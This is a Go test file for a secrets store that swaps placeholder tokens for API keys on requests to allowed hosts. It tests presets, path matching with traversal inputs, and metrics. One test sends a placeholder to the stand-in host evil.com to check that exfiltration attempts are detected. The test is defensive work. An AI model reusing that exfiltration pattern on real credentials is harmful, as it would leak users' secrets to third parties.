package secrets

import (
	"bytes"
	"errors"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/iotest"
	"time"

	"github.com/prometheus/client_golang/prometheus"
)

func TestReadValue(t *testing.T) {
	tests := []struct {
		name, in, want, err string
	}{
		{"trailing newline trimmed", "s3cret-value\n", "s3cret-value", ""},
		{"crlf trimmed", "s3cret-value\r\n", "s3cret-value", ""},
		{"only one newline trimmed", "s3cret-value\n\n", "s3cret-value\n", ""},
		{"no newline", "s3cret-value", "s3cret-value", ""},
		{"empty", "", "", "empty input"},
		{"just newline", "\n", "", "empty input"},
		{"too long", strings.Repeat("a", maxValueLen+1), "", "longer than"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := ReadValue(strings.NewReader(tt.in))
			if tt.err != "" {
				if err == nil || !strings.Contains(err.Error(), tt.err) {
					t.Fatalf("err = %v, want %q", err, tt.err)
				}
				return
			}
			if err != nil || string(got) != tt.want {
				t.Fatalf("ReadValue = %q, %v; want %q", got, err, tt.want)
			}
		})
	}
	if _, err := ReadValue(iotest.ErrReader(errors.New("stdin closed"))); err == nil {
		t.Fatal("read error not reported")
	}
}

func TestFormatTableAndEnvLines(t *testing.T) {
	list := []Secret{
		{Name: "anthropic", Hosts: []string{"api.anthropic.com"}, Placeholder: "clawd-ph-anthropic-aaaa", Env: []string{"ANTHROPIC_API_KEY"}, Created: t0},
		{Name: "gh-work", Hosts: []string{"api.github.com", "github.com"}, Placeholder: "clawd-ph-gh-work-bbbb", Env: []string{"GITHUB_TOKEN", "GH_TOKEN"}, Created: t0, Rotated: t0.Add(time.Hour)},
		{Name: "gh_other", Hosts: []string{"api.github.com"}, Placeholder: "clawd-ph-gh_other-cccc", Env: []string{"GITHUB_TOKEN"}, Created: t0},
	}
	var buf bytes.Buffer
	if err := FormatTable(&buf, list); err != nil {
		t.Fatal(err)
	}
	want := `NAME       HOSTS                      PLACEHOLDER              CREATED               ROTATED
anthropic  api.anthropic.com          clawd-ph-anthropic-aaaa  2026-01-02T03:04:05Z  -
gh-work    api.github.com,github.com  clawd-ph-gh-work-bbbb    2026-01-02T03:04:05Z  2026-01-02T04:04:05Z
gh_other   api.github.com             clawd-ph-gh_other-cccc   2026-01-02T03:04:05Z  -
`
	if buf.String() != want {
		t.Errorf("table:\n%s\nwant:\n%s", buf.String(), want)
	}
	got := strings.Join(EnvLines(list), "\n")
	wantEnv := strings.Join([]string{
		"CLAWD_SECRET_ANTHROPIC=clawd-ph-anthropic-aaaa",
		"CLAWD_SECRET_GH_WORK=clawd-ph-gh-work-bbbb",
		"CLAWD_SECRET_GH_OTHER=clawd-ph-gh_other-cccc",
		"ANTHROPIC_API_KEY=clawd-ph-anthropic-aaaa",
		"GITHUB_TOKEN=clawd-ph-gh-work-bbbb", // first secret claiming it wins
		"GH_TOKEN=clawd-ph-gh-work-bbbb",
	}, "\n")
	if got != wantEnv {
		t.Errorf("EnvLines:\n%s\nwant:\n%s", got, wantEnv)
	}
}

func TestPresetsFillSpec(t *testing.T) {
	s, _ := openTest(t)
	a := mustSet(t, s, Secret{Name: "claude", Preset: "anthropic"}, "sk-ant-xxxxxxxx")
	if a.Header != "X-Api-Key" || a.Format != "{value}" || !a.HeaderMode ||
		strings.Join(a.RemoveHeaders, ",") != "Authorization" || strings.Join(a.Hosts, ",") != "api.anthropic.com" ||
		strings.Join(a.Env, ",") != "ANTHROPIC_API_KEY" {
		t.Errorf("anthropic preset = %+v", a)
	}
	o := mustSet(t, s, Secret{Name: "oai", Preset: "openai", Hosts: []string{"proxy.example.com"}}, "sk-xxxxxxxxxx")
	if o.Header != "Authorization" || o.Format != "Bearer {value}" || strings.Join(o.Hosts, ",") != "proxy.example.com" {
		t.Errorf("openai preset = %+v", o)
	}
	g := mustSet(t, s, Secret{Name: "gh", Preset: "github"}, "ghp_xxxxxxxxxx")
	if g.Header != "Authorization" || g.Format != "Bearer {value}" || strings.Join(g.Env, ",") != "GITHUB_TOKEN,GH_TOKEN" {
		t.Errorf("github preset = %+v", g)
	}
}

func TestPathMatches(t *testing.T) {
	tests := []struct {
		pattern, path string
		want          bool
	}{
		{"/repos/**", "/repos", true},
		{"/repos/**", "/repos/a/b/c", true},
		{"/repos/**", "/reposx", false},
		{"/repos/*", "/repos/a", true},
		{"/repos/*", "/repos/a/b", false},
		{"/repos/*", "/repos", false},
		{"/repos/*/issues", "/repos/a/issues", true},
		{"/repos/*/issues", "/repos/a/b/issues", false},
		{"/**/issues", "/x/y/issues", true},
		{"/**", "/", true},
		{"/repos/**", "/repos/../admin", false},
		{"/repos/**", "/repos/./a", false},
		{"/a", "a", false},
	}
	for _, tt := range tests {
		if got := pathMatches(tt.pattern, tt.path); got != tt.want {
			t.Errorf("pathMatches(%q, %q) = %v, want %v", tt.pattern, tt.path, got, tt.want)
		}
	}
}

func TestTemplateRegex(t *testing.T) {
	tests := []struct{ tmpl, path, want string }{
		{"/bot{value}/sendMessage", "/botX/sendMessage", "X"},
		{"/bot{value}/sendMessage", "/botX/sendMessage/more", ""},
		{"/bot{value}/**", "/botX/anything/else", "X"},
		{"/bot{value}/**", "/bot/getMe", ""},
		{"/v1/{value}", "/v1/abc", "abc"},
		{"/a.b/{value}", "/aXb/abc", ""}, // literal dot
	}
	for _, tt := range tests {
		re, err := templateRegex(tt.tmpl)
		if err != nil {
			t.Fatal(err)
		}
		c, err := compilePathRegex(re)
		if err != nil {
			t.Fatal(err)
		}
		got := ""
		if m := c.FindStringSubmatch(tt.path); m != nil {
			got = m[1]
			if got == "" {
				got = "<empty>"
			}
		}
		if tt.want == "" && got == "<empty>" {
			got = ""
		}
		if got != tt.want {
			t.Errorf("template %q on %q: group %q, want %q", tt.tmpl, tt.path, got, tt.want)
		}
	}
}

func TestMissingKeyWithExistingStore(t *testing.T) {
	s, dir := openTest(t)
	mustSet(t, s, Secret{Name: "alpha", Hosts: []string{"a.com"}}, "alpha-value-123456")
	keyPath := filepath.Join(dir, "secrets.key")
	os.Remove(keyPath)
	_, err := Open(filepath.Join(dir, "secrets.json"), keyPath)
	if err == nil || !strings.Contains(err.Error(), "missing") {
		t.Fatalf("err = %v, want a missing-key error", err)
	}
	if _, err := os.Stat(keyPath); err == nil {
		t.Fatal("a new key was generated next to an existing store")
	}
}

func TestInstrument(t *testing.T) {
	f := newFixture(t)
	reg := prometheus.NewRegistry()
	if err := f.s.Instrument(reg); err != nil {
		t.Fatal(err)
	}
	if err := f.s.Instrument(nil); err != nil {
		t.Fatal(err)
	}
	req, _ := http.NewRequest("GET", "https://api.github.com/", nil)
	if _, err := f.s.Inject(req, "api.github.com"); err != nil {
		t.Fatal(err)
	}
	req, _ = http.NewRequest("GET", "https://evil.com/?"+f.ph["github"], nil)
	if _, err := f.s.Inject(req, "evil.com"); err == nil {
		t.Fatal("misuse not detected")
	}
	mfs, err := reg.Gather()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]float64{}
	for _, mf := range mfs {
		for _, m := range mf.GetMetric() {
			key := mf.GetName()
			for _, l := range m.GetLabel() {
				key += "{" + l.GetValue() + "}"
			}
			got[key] = m.GetCounter().GetValue() + m.GetGauge().GetValue()
		}
	}
	want := map[string]float64{
		"clawd_secrets_injections_total{github}": 1,
		"clawd_secrets_misuse_total{github}":     1,
		"clawd_secrets_loaded":                   float64(len(f.ph)),
	}
	for k, v := range want {
		if got[k] != v {
			t.Errorf("%s = %v, want %v (all: %v)", k, got[k], v, got)
		}
	}
	// Metric output never holds a value.
	for _, mf := range mfs {
		if strings.Contains(mf.String(), vGitHub) {
			t.Fatal("metrics hold a value")
		}
	}
}
